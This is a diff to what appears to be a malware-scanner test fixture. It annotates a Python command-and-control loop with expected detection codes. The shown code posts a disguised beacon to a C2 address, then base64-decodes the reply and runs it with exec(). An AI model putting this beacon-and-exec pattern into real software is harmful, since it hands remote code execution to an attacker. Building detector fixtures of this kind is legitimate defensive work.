@@ -32,7 +32,7 @@ def run():
     while True:
         try:
             body = "Amazon.com" + ident + "csrr" + str(flag)
-            r = requests.post(C2, data=body, timeout=30).text
+            r = requests.post(C2, data=body, timeout=30).text  # expect: HS118 high
             if r.startswith("Google.com") and len(r) > 15:
                 dec = base64.b64decode(r[10:])
                 exec(compile(dec, "", "exec"), globals())  # expect: HS101 critical, HS102 critical
